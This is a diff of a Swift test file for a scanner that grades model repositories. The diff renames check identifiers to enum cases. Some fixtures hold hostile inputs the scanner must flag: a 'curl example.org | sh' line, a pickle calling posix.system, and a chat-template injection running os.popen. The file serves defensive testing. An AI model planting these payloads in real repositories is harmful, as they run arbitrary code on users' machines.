@@ -12,13 +12,13 @@ struct ProbeScenarioTests {
         let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\nA model with 448 parameters in total.\n"])
         try repository.write("model.safetensors", llamaSafetensors(layers: 3))
         let rating = try repository.rating()
-        #expect(rating.outcome("D3.parameters") == .pass)
+        #expect(rating.outcome(.parameterCount) == .pass)
     }
 
     @Test func aCardSizeTheHeadersContradictPointsAtBoth() throws {
         let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\n\nThis is a 13B parameter model.\n"])
         try repository.write("model.safetensors", llamaSafetensors(layers: 3))
-        let finding = try #require(try repository.rating().findings("D3.parameters").first)
+        let finding = try #require(try repository.rating().findings(.parameterCount).first)
         #expect(finding.outcome == .contradicted)
         #expect(finding.evidence.first?.path == "README.md" && finding.evidence.first?.lineStart == 6)
         #expect(finding.evidence.contains { $0.path == "model.safetensors" && $0.byteStart == 0 })
@@ -35,16 +35,16 @@ struct ProbeScenarioTests {
         let agreeing = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# vad\nA voice detector with 310K parameters.\n"])
         try agreeing.write("model.onnx", onnx)
         let rating = try agreeing.rating()
-        #expect(rating.outcome("D3.parameters") == .pass)
-        #expect(rating.findings("D3.parameters").first?.values["measured"] == "309633")
+        #expect(rating.outcome(.parameterCount) == .pass)
+        #expect(rating.findings(.parameterCount).first?.values["measured"] == "309633")
         let lying = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# vad\nA 7B parameter model.\n"])
         try lying.write("onnx/model.onnx", onnx)
-        #expect(try lying.rating().outcome("D3.parameters") == .contradicted)
+        #expect(try lying.rating().outcome(.parameterCount) == .contradicted)
         // Beside safetensors, an ONNX export is the same model again: it does not add to the count.
         let both = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\nA model with 448 parameters in total.\n"])
         try both.write("model.safetensors", llamaSafetensors(layers: 3))
         try both.write("onnx/model.onnx", onnx)
-        #expect(try both.rating().outcome("D3.parameters") == .pass)
+        #expect(try both.rating().outcome(.parameterCount) == .pass)
     }
 
     @Test func pytorchCheckpointsAreCountedFromTheirPickledShapes() throws {
@@ -53,12 +53,12 @@ struct ProbeScenarioTests {
         let checkpoint = Array(try Data(contentsOf: folder.appendingPathComponent("Fixtures/pypi/lpips-v0.1-squeeze.pth")))
         let agreeing = try TemporaryRepository(["README.md": "---\nlicense: bsd-2-clause\n---\n# lpips\nThe linear heads have 2,240 parameters.\n"])
         try agreeing.write("pytorch_model.bin", checkpoint)
-        let finding = try #require(try agreeing.rating().findings("D3.parameters").first)
+        let finding = try #require(try agreeing.rating().findings(.parameterCount).first)
         #expect(finding.outcome == .pass)
         #expect(finding.values["measured"] == "2240")
         let lying = try TemporaryRepository(["README.md": "---\nlicense: bsd-2-clause\n---\n# lpips\nA 1.3B parameter model.\n"])
         try lying.write("pytorch_model.bin", checkpoint)
-        #expect(try lying.rating().outcome("D3.parameters") == .contradicted)
+        #expect(try lying.rating().outcome(.parameterCount) == .contradicted)
     }
 
     /// A state dict in torch.save's zip layout (Tests/Fixtures/pytorch): its parameter names give the layer count,
@@ -72,10 +72,10 @@ struct ProbeScenarioTests {
         let snapshot = try matching.snapshot()
         #expect(snapshot.weights.blockIndices == [0, 1, 2])
         #expect(snapshot.weights.parameterCount == 2488)
-        #expect(try matching.rating().findings("D3.architecture").contains { $0.outcome == .pass && $0.message.contains("3 blocks") })
+        #expect(try matching.rating().findings(.architecture).contains { $0.outcome == .pass && $0.message.contains("3 blocks") })
         let wrong = try TemporaryRepository(["config.json": llamaConfig(layers: 4)])
         try wrong.write("pytorch_model.bin", checkpoint)
-        #expect(try wrong.rating().findings("D3.architecture").contains { $0.outcome == .contradicted && $0.values["measured"] == "3" })
+        #expect(try wrong.rating().findings(.architecture).contains { $0.outcome == .contradicted && $0.values["measured"] == "3" })
     }
 
     @Test func packedQuantizedWeightsAreNotComparedNaively() throws {
@@ -83,13 +83,13 @@ struct ProbeScenarioTests {
         try repository.write(
             "model.safetensors",
             llamaSafetensors(layers: 0, names: ["model.layers.0.self_attn.q_proj.qweight", "model.layers.0.self_attn.q_proj.scales"]))
-        #expect(try repository.rating().outcome("D3.parameters") == .claimed)
+        #expect(try repository.rating().outcome(.parameterCount) == .claimed)
     }
 
     @Test func configLayersMustMatchTheWeights() throws {
         let repository = try TemporaryRepository(["config.json": llamaConfig(layers: 4)])
         try repository.write("model.safetensors", llamaSafetensors(layers: 2))
-        let findings = try repository.rating().findings("D3.architecture")
+        let findings = try repository.rating().findings(.architecture)
         #expect(
             findings.contains {
                 $0.outcome == .contradicted && $0.evidence.first?.pointer == "/num_hidden_layers" && $0.evidence.first?.lineStart == 5
@@ -103,7 +103,7 @@ struct ProbeScenarioTests {
             "modeling_x.py": "import torch\n# os.system('not this comment')\nmodel.eval()\nos.system('curl example.org | sh')\n",
         ])
         let rating = try repository.rating()
-        let unsafe = rating.findings("A3").filter { $0.outcome == .unsafe }
+        let unsafe = rating.findings(.remoteCode).filter { $0.outcome == .unsafe }
         #expect(unsafe.count == 1)
         #expect(unsafe.first?.evidence.first?.lineStart == 4)
         #expect(unsafe.first?.severity == .critical)
@@ -116,9 +116,9 @@ struct ProbeScenarioTests {
             "modeling_x.py": "def f(model):\n    return model.eval()\n",
         ])
         let rating = try repository.rating()
-        #expect(rating.outcome("A3") == .absent)
+        #expect(rating.outcome(.remoteCode) == .absent)
         #expect(!rating.isUnsafe)
-        #expect(rating.findings("A3").contains { $0.values["repository"] == "other/repo" })
+        #expect(rating.findings(.remoteCode).contains { $0.values["repository"] == "other/repo" })
     }
 
     @Test func tokenizerConfigsCountForRemoteCodeAndChatTemplates() throws {
@@ -127,8 +127,8 @@ struct ProbeScenarioTests {
             "tokenizer_config.json": #"{"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}, "chat_template": "{{ messages }}"}"#,
         ])
         let rating = try repository.rating()
-        #expect(rating.outcome("A3") == .absent)
-        #expect(rating.findings("A3").last?.evidence.first?.path == "tokenizer_config.json")
+        #expect(rating.outcome(.remoteCode) == .absent)
+        #expect(rating.findings(.remoteCode).last?.evidence.first?.path == "tokenizer_config.json")
         #expect(rating.facts.hasChatTemplate)
     }
 
@@ -140,7 +140,7 @@ struct ProbeScenarioTests {
             [0x80, 0x02] + Array("cposix\nsystem\n".utf8) + [0x71, 0x00, 0x58, 0x04, 0x00, 0x00, 0x00]
                 + Array("true".utf8) + [0x85, 0x52, 0x2E])
         let rating = try repository.rating()
-        let finding = try #require(rating.findings("A2").first)
+        let finding = try #require(rating.findings(.artifactCode).first)
         #expect(finding.outcome == .unsafe)
         #expect(finding.evidence.first?.path == "pytorch_model.bin" && finding.evidence.first?.byteStart == 2)
         #expect(finding.values["rule"] == "PKL-DENY")
@@ -151,7 +151,7 @@ struct ProbeScenarioTests {
         let repository = try TemporaryRepository()
         try repository.write("training_state.pkl", [0x80, 0x02] + Array("ccollections\nOrderedDict\n".utf8) + [0x71, 0x00, 0x29, 0x52, 0x2E])
         let rating = try repository.rating()
-        #expect(rating.outcome("A2") == .pass)
+        #expect(rating.outcome(.artifactCode) == .pass)
         #expect(!rating.isUnsafe)
     }
 
@@ -162,25 +162,25 @@ struct ProbeScenarioTests {
                 "{\n  \"bos_token\": \"<s>\",\n  \"chat_template\": \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"\n}",
         ])
         let rating = try repository.rating()
-        let finding = try #require(rating.findings("A9").first)
+        let finding = try #require(rating.findings(.chatTemplate).first)
         #expect(finding.outcome == .unsafe)
         #expect(finding.evidence.first?.path == "tokenizer_config.json" && finding.evidence.first?.lineStart == 3)
-        #expect(rating.outcome("A2") != .unsafe)
+        #expect(rating.outcome(.artifactCode) != .unsafe)
         #expect(rating.label == "F-unsafe")
     }
 
     @Test func pickleOnlyWeightsAreNotSafeSerialization() throws {
         let repository = try TemporaryRepository()
         try repository.write("pytorch_model.bin", [0x80, 0x02, 0x7D, 0x71, 0x00, 0x2E])
-        #expect(try repository.rating().outcome("A1") == .absent)
+        #expect(try repository.rating().outcome(.safeSerialization) == .absent)
         try repository.write("model.safetensors", llamaSafetensors(layers: 1))
-        #expect(try repository.rating().outcome("A1") == .pass)
+        #expect(try repository.rating().outcome(.safeSerialization) == .pass)
     }
 
     @Test func missingLicenseCapsTheGradeAtD() throws {
         let repository = try TemporaryRepository(["README.md": "# m\n"])
         let rating = try repository.rating()
-        #expect(rating.outcome("L1") == .absent)
+        #expect(rating.outcome(.licenseDeclared) == .absent)
         #expect(rating.gates.contains { $0.gate == .noLicense && $0.triggered })
         #expect(rating.grade.map { $0 >= .d } == true)
     }
@@ -192,13 +192,13 @@ struct ProbeScenarioTests {
         ("---\nlicense: other\nlicense_name: acme\nlicense_link: LICENSE.md\n---\n", .claimed),
     ])
     func licenseDeclarations(card: String, outcome: Outcome) throws {
-        #expect(try TemporaryRepository(["README.md": card]).rating().outcome("L1") == outcome)
+        #expect(try TemporaryRepository(["README.md": card]).rating().outcome(.licenseDeclared) == outcome)
     }
 
     @Test func aLicenseFileAloneCountsAsDeclared() throws {
         let rating = try TemporaryRepository(["LICENSE.txt": "MIT License ..."]).rating()
-        #expect(rating.outcome("L1") == .pass)
-        #expect(rating.findings("L1").first?.evidence.first?.path == "LICENSE.txt")
+        #expect(rating.outcome(.licenseDeclared) == .pass)
+        #expect(rating.findings(.licenseDeclared).first?.evidence.first?.path == "LICENSE.txt")
     }
 
     @Test func shardIndexesMustMatchTheShards() throws {
@@ -208,11 +208,11 @@ struct ProbeScenarioTests {
             #"{"metadata": {"total_size": \#(dataBytes + 4096)}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}"#
         let repository = try TemporaryRepository(["model.safetensors.index.json": index])
         try repository.write("model-00001-of-00002.safetensors", shard)
-        let missing = try repository.rating().findings("A5")
+        let missing = try repository.rating().findings(.weightIntegrity)
         #expect(missing.contains { $0.outcome == .contradicted && $0.message.contains("not in the repository") })
         try repository.write("model-00002-of-00002.safetensors", shard)
         try repository.write("model-00003-of-00003.safetensors", shard)
-        let findings = try repository.rating().findings("A5")
+        let findings = try repository.rating().findings(.weightIntegrity)
         #expect(findings.contains { $0.message.contains("total_size") && $0.evidence.first?.pointer == "/metadata/total_size" })
         #expect(findings.contains { $0.message.contains("does not list it") })
     }
@@ -221,20 +221,20 @@ struct ProbeScenarioTests {
         let repository = try TemporaryRepository()
         try repository.write("model.safetensors", Array(llamaSafetensors(layers: 2).dropLast(10)))
         let rating = try repository.rating()
-        #expect(rating.findings("A5").contains { $0.outcome == .contradicted && $0.message.contains("truncated") })
-        #expect(rating.outcome("D3.parameters") == .unknown)
+        #expect(rating.findings(.weightIntegrity).contains { $0.outcome == .contradicted && $0.message.contains("truncated") })
+        #expect(rating.outcome(.parameterCount) == .unknown)
     }
 
     @Test func openDataNextToProprietaryDataIsContradicted() throws {
         let card = "---\nlicense: mit\n---\n# m\n\nTrained on fully open data.\n\n## Training data\nOur data is not publicly available.\n"
-        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings("D4").first)
+        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings(.trainingData).first)
         #expect(finding.outcome == .contradicted)
         #expect(finding.evidence.compactMap(\.lineStart) == [6, 9])
     }
 
     @Test func datasetsInMetadataDiscloseTrainingData() throws {
         let card = "---\nlicense: mit\ndatasets:\n  - allenai/c4\n---\n"
-        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings("D4").first)
+        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings(.trainingData).first)
         #expect(finding.outcome == .pass)
         #expect(finding.evidence.first?.lineStart == 4)
         #expect(finding.evidence.first?.pointer == "/datasets/0")
@@ -242,11 +242,11 @@ struct ProbeScenarioTests {
 
     @Test func derivativesMustDeclareTheirBase() throws {
         let prose = try TemporaryRepository(["README.md": "# m\nThis model is fine-tuned from Llama-3.1-8B.\n"]).rating()
-        #expect(prose.outcome("P1") == .claimed)
+        #expect(prose.outcome(.baseModel) == .claimed)
         let declared = try TemporaryRepository(["README.md": "---\nbase_model: meta-llama/Llama-3.1-8B\n---\n"]).rating()
-        #expect(declared.outcome("P1") == .pass)
+        #expect(declared.outcome(.baseModel) == .pass)
         let original = try TemporaryRepository(["README.md": "# m\nTrained from scratch.\n"]).rating()
-        #expect(original.outcome("P1") == .notApplicable)
+        #expect(original.outcome(.baseModel) == .notApplicable)
     }
 
     @Test func ratingsAreDeterministic() throws {
@@ -274,30 +274,30 @@ struct ExampleTests {
         let rating = try ExampleTests.example("open-tiny-lm")
         #expect(rating.grade == .a)
         #expect(!rating.findings.contains { [.contradicted, .unsafe, .unknown].contains($0.outcome) })
-        #expect(rating.outcome("D4") == .pass && rating.outcome("D5") == .pass && rating.outcome("A5") == .pass)
+        #expect(rating.outcome(.trainingData) == .pass && rating.outcome(.evaluationProvenance) == .pass && rating.outcome(.weightIntegrity) == .pass)
         #expect(rating.facts.parameters == 164_672)
     }
 
     @Test func theCommunityModelShowsItsGaps() throws {
         let rating = try ExampleTests.example("community-chat")
         #expect(rating.grade == .c)
-        #expect(rating.outcome("D2.out-of-scope") == .absent)
-        #expect(rating.outcome("D5") == .claimed)
-        #expect(rating.outcome("A3") == .absent)
-        #expect(rating.outcome("P1") == .pass)
-        #expect(rating.outcome("A9") == .pass)
+        #expect(rating.outcome(.section(.outOfScope)) == .absent)
+        #expect(rating.outcome(.evaluationProvenance) == .claimed)
+        #expect(rating.outcome(.remoteCode) == .absent)
+        #expect(rating.outcome(.baseModel) == .pass)
+        #expect(rating.outcome(.chatTemplate) == .pass)
         #expect(!rating.isUnsafe)
     }
 
     @Test func theContradictingCardIsCaughtAtTheExactLine() throws {
         let rating = try ExampleTests.example("contradicting-card")
-        let parameters = try #require(rating.findings("D3.parameters").first)
+        let parameters = try #require(rating.findings(.parameterCount).first)
         #expect(parameters.outcome == .contradicted)
         #expect(parameters.evidence[0].path == "README.md" && parameters.evidence[0].lineStart == 11)
         #expect(parameters.evidence[0].snippet?.contains("7 billion parameter") == true)
         #expect(parameters.evidence[1].path == "model.safetensors" && parameters.evidence[1].byteEnd != nil)
-        #expect(rating.findings("D3.architecture").filter { $0.outcome == .contradicted }.count == 2)
-        #expect(rating.outcome("D4") == .contradicted)
+        #expect(rating.findings(.architecture).filter { $0.outcome == .contradicted }.count == 2)
+        #expect(rating.outcome(.trainingData) == .contradicted)
         #expect(rating.label.hasSuffix("⚠"))
         #expect(rating.grade.map { $0 >= .b } == true)
     }
